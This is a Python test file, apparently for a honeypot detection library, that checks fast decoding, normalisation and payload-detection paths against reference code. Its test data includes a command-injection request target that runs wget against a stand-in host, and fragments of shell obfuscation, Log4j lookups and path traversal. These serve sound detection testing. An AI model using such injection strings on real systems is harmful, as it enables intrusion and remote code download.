"""The fast paths of field building, decoding and IOC gating give what their reference does.

Each shortcut (a C call in place of a regex callback, a check that skips a decoder that would
change nothing) is compared with the slower code it stands for, on generated inputs made of the
bytes that matter to it.
"""

from __future__ import annotations

import base64
import binascii
import re
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from honeyguard.detect import Ruleset, raw_http_subject
from honeyguard.detect.fields import _PAYLOAD, _request_parts, event_subject, looks_like_payload
from honeyguard.detect.httpsubject import HttpSubject
from honeyguard.detect.iocs.layers import _b64decode
from honeyguard.detect.normalize import (
    _JSON_ESCAPE,
    _SHELL_NOISE,
    decode_numeric_entities,
    decode_repeated,
    decoded_text,
    deobfuscate_shell,
    normalize_path,
    percent_decode_once,
    percent_decode_reference,
    resolve_log4j_lookups,
    resolve_segments,
    unescape_json,
)
from honeyguard.detect.prefilter import Prefilter
from honeyguard.model import HttpRequest
from tests.detect._support import byte_pieces, http_event, write_rules

_pieces = byte_pieces
PERCENT = _pieces(b"%", b"%2", b"%41", b"%25", b"%u0041", b"%uD800", b"%c0%ae", b"u", b"4", b"g", b"\\", b"\\x", b"a")
PATHS = _pieces(b"/", b".", b"..", b"a", b";", b"\\", b"//", b"%2e", b"%2f", b"%c0%af", b"${lower:x}", b"?", b"+")
JSON = _pieces(b"\\", b"u", b"0", b"3e", b"\\u003e", b"\\u00e9", b'\\"', b"\\\\", b"\\/", b"x", b"&#60;", b"%41", b"+")
SHELL = _pieces(b"$", b"IFS", b"${IFS}", b"$IFS$9", b"$1", b"${@}", b"'", b'"', b"\\", b"w", b"get", b"{a,b}", b" ")
PAYLOAD = _pieces(b"$", b"{", b"(", b")", b" ", b"`", b"|", b"WGET", b"curl", b"/dev/", b"Base64", b"jndi", b"<?", b"x")
BASE64 = byte_pieces(b"QUJD", b"ab", b"+", b"/", b"-", b"_", b"=", b"c", b"0")


@settings(max_examples=400, deadline=None)
@given(PERCENT)
def test_percent_decoding_is_the_regex_pass(data: bytes) -> None:
    assert percent_decode_once(data) == percent_decode_reference(data)


@settings(max_examples=400, deadline=None)
@given(PATHS)
def test_path_normalisation_shortcut_resolves_the_same(path: bytes) -> None:
    slashed = path.replace(b"\\", b"/")
    expected = slashed if b"." not in slashed and b"//" not in slashed else resolve_segments(slashed)
    assert normalize_path(path) == expected


@settings(max_examples=400, deadline=None)
@given(PATHS, PATHS, JSON)
def test_request_line_and_body_fields_are_the_normalisers_output(path: bytes, query: bytes, body: bytes) -> None:
    target = (b"/" + path).replace(b" ", b"") + (b"?" + query if query else b"")
    raw = b"POST " + target + b" HTTP/1.1\r\nHost: a\r\n\r\n" + body
    subject = raw_http_subject(raw)
    assert isinstance(subject, HttpSubject)
    path_raw, _, query_raw = target.partition(b"?")
    assert subject.field("path") == resolve_log4j_lookups(normalize_path(decode_repeated(path_raw)))
    assert subject.field("query") == (decoded_text(query_raw, plus_is_space=True) if query_raw else b"")
    decoded = decode_numeric_entities(unescape_json(decoded_text(body, plus_is_space=True)))
    assert subject.field("body") == (body if decoded == body else body + b"\n" + decoded)


def _unescape_json_reference(data: bytes) -> bytes:
    def char(found: re.Match[bytes]) -> bytes:
        if found.group(2) is not None:
            return found.group(2)
        code = int(found.group(1), 16)
        return chr(code).encode("utf-8", "surrogatepass") if code > 0x7F else bytes([code])

    return _JSON_ESCAPE.sub(char, data)


@settings(max_examples=400, deadline=None)
@given(JSON)
def test_json_unescaping_without_callbacks_is_the_same(data: bytes) -> None:
    assert unescape_json(data) == _unescape_json_reference(data)


def _deobfuscate_reference(line: bytes) -> bytes:
    if not any(mark in line for mark in (b"$", b"'", b'"', b"\\", b"{")):
        return line
    line = _SHELL_NOISE.sub(lambda m: b" " if b"IFS" in m.group() else b"", line)
    line = re.sub(rb"(?<=[A-Za-z0-9])['\"](?=[A-Za-z0-9])", b"", line)
    return re.sub(rb"\{([^{}\s]{1,200},[^{}\s]{0,400})\}", lambda m: m.group(1).replace(b",", b" "), line)


@settings(max_examples=400, deadline=None)
@given(SHELL)
def test_shell_deobfuscation_shortcuts_are_the_same(line: bytes) -> None:
    assert deobfuscate_shell(line) == _deobfuscate_reference(line)


@settings(max_examples=400, deadline=None)
@given(PAYLOAD)
def test_payload_test_is_the_regex(value: bytes) -> None:
    assert looks_like_payload(value) == (_PAYLOAD.search(value) is not None)


def _b64decode_reference(token: bytes) -> bytes | None:
    token = token.rstrip(b"=")
    token = token[: len(token) - len(token) % 4 if len(token) % 4 == 1 else len(token)]
    padded = token + b"=" * (-len(token) % 4)
    try:
        if b"-" in padded or b"_" in padded:
            return base64.urlsafe_b64decode(padded)
        return base64.b64decode(padded, validate=True)
    except (binascii.Error, ValueError):
        return None


@settings(max_examples=400, deadline=None)
@given(BASE64)
def test_base64_decoding_is_the_base64_module(token: bytes) -> None:
    assert _b64decode(token) == _b64decode_reference(token)


PROXY = r"""
rules:
  - id: t-proxy
    name: an absolute-form target
    severity: low
    protocol: http
    match:
      field: target
      regex: '^https?://'
    examples:
      positive:
        - raw: "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n"
      negative:
        - raw: "GET / HTTP/1.1\r\nHost: a\r\nReferer: http://example.com/\r\n\r\n"
"""


def test_a_target_start_factor_is_bound_to_the_request_line(tmp_path: Path) -> None:
    ruleset = Ruleset.load([write_rules(tmp_path, PROXY)], builtin=False)
    prefilter = Prefilter(ruleset.program)
    referer = raw_http_subject(b"GET / HTTP/1.1\r\nHost: a\r\nReferer: http://example.com/\r\n\r\n")
    assert prefilter.candidates(referer.prefilter_view()).rules == []  # ' http://' is not at the target
    for line in (b"GET http://e/ HTTP/1.1", b"CONNECT  https://e:443 HTTP/1.1", b"M-SEARCH http://e"):
        subject = raw_http_subject(line + b"\r\nHost: e\r\n\r\n")
        assert prefilter.candidates(subject.prefilter_view()).rules == [0], line
        assert ruleset.engine("hyperscan").match(subject).rules == ("t-proxy",)


_TEXT_PIECES = ["a", "/", "?", " ", ":", "\n", "\r", "\t", "%2e", "${", "é", "€", "\udcff", "wget", "$", "+"]
TEXTS = st.lists(st.sampled_from([*_TEXT_PIECES, "à\x80\xae"]), max_size=6).map("".join)
HEADER_NAMES = st.one_of(st.sampled_from(["Host", "host", "HOST", "Hos", "Host ", "X-A", ""]), TEXTS)
LAZY_FIELDS = ("request", "target", "url", "path", "query", "method", "body", "headers", "header.*", "header.host")


@settings(max_examples=400, deadline=None)
@given(
    TEXTS,
    st.lists(st.tuples(HEADER_NAMES, TEXTS), max_size=4),
    st.binary(max_size=12),
    st.sampled_from(["GET", "POST", "M-SEARCH", "GÉT"]),
)
@example("shell?cd+/tmp;wget+http://198.51.100.7/a", [("Host", "h:80"), ("X", "y")], b"", "GET")  # 'request' from raw
@example("a\xe0\x80\xae/?x", [("host", " h ")], b"b=1", "POST")  # url differs from the target, a body
@example("a", [], b"", "GET")  # no header at all
def test_a_recorded_request_s_lazy_subject_is_its_parts_subject(
    target: str, headers: list[tuple[str, str]], body: bytes, method: str
) -> None:
    """A recorded request's subject makes its raw bytes from the strings and its parts only when
    a field needs them (the request line, 'request' and the IOC inputs are cut from the raw bytes
    by the strings' lengths): every field, view and IOC input is the one its parts give, whichever
    is asked for first."""
    request = HttpRequest(method=method, target="/" + target, version="HTTP/1.1", headers=headers, body=body)
    lazy = event_subject(http_event(request))
    eager = HttpSubject(_request_parts(request), None)
    assert isinstance(lazy, HttpSubject)
    assert lazy.raw_bytes() == eager.raw_bytes()
    assert lazy.prefilter_view() == eager.prefilter_view()
    assert lazy.payload_parts() == eager.payload_parts()
    assert lazy.first_host() == eager.first_host()
    assert (lazy.texts, lazy.host, lazy.header_values) == (eager.texts, eager.host, eager.header_values)
    assert lazy.fields == eager.fields
    for name in LAZY_FIELDS:  # each first, on a fresh subject, after the prefilter's view as the engine asks
        fresh = event_subject(http_event(request))
        assert isinstance(fresh, HttpSubject)
        fresh.prefilter_view(False)
        assert fresh.field(name) == eager.field(name), name
        assert fresh.texts == eager.texts and fresh.first_host() == eager.first_host(), name
        assert fresh.fields == eager.fields, name


def test_payload_parts_do_not_depend_on_whether_the_request_was_split() -> None:
    """IOC extraction reads payload_parts: a request line alone (no line end) kept its last byte
    only while the raw bytes were not yet split."""
    for data in (b"A 0.0.0.1", b"GET /x?ip=198.51.100.7", b"GET / HTTP/1.1\r\nHost: a\r\n\r\nbody", b"GET /\n\nb"):
        fresh = raw_http_subject(data)
        split = raw_http_subject(data)
        assert isinstance(fresh, HttpSubject) and isinstance(split, HttpSubject)
        split.fields  # noqa: B018 - splits the request and builds every field
        assert fresh.payload_parts() == split.payload_parts(), data
        assert b"".join(fresh.payload_parts()) == data
